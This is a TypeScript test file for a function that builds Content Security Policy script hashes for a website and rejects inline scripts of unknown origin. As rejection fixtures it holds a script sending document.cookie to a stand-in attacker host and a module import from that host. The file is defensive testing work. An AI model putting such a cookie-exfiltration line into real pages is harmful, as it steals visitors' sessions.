import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { PAGE_SCRIPT_START, speculationRulesText } from "../core/html/inline-scripts.ts";
import { DisallowedInlineScriptError, pageCspSources } from "./page-csp-sources.ts";

const sha = (text: string) => `sha256-${createHash("sha256").update(text).digest("base64")}`;

describe("pageCspSources", () => {
  it("hashes the site's own inline scripts, once each, and skips external scripts and data", () => {
    const head = `${PAGE_SCRIPT_START}(function layoutBehaviour(){})({});`;
    const island = `${PAGE_SCRIPT_START}(function loadIslandAfterPaint(){})({"id":"x"});`;
    const html = `<script>${head}</script><script type="speculationrules">${speculationRulesText}</script><script src="/assets/x.js"></script><script type="application/ld+json">{"@type":"LegalService"}</script><script type="application/json">{"a":1}</script><script>${island}</script><script>${island}</script>`;
    // Speculation rules are governed by CSP's script-src too, so they are hashed with the rest.
    expect(pageCspSources(html, "index.html").scriptHashes).toEqual([sha(head), sha(speculationRulesText), sha(island)]);
  });

  it.each([
    ["a script of unknown origin", "<script>fetch('https://evil.example/?c='+document.cookie)</script>"],
    ["a module script of unknown origin", '<script type="module">import "https://evil.example/x.js"</script>'],
    ["an analytics snippet", "<script>(function(i,s,o,g,r,a,m){})(window)</script>"],
  ])("refuses %s, naming the page", (_name, html) => {
    expect(() => pageCspSources(`<p>hi</p>${html}`, "publications/3/index.html")).toThrow(DisallowedInlineScriptError);
    expect(() => pageCspSources(html, "publications/3/index.html")).toThrow(/^publications\/3\/index\.html has an inline script/);
  });
});
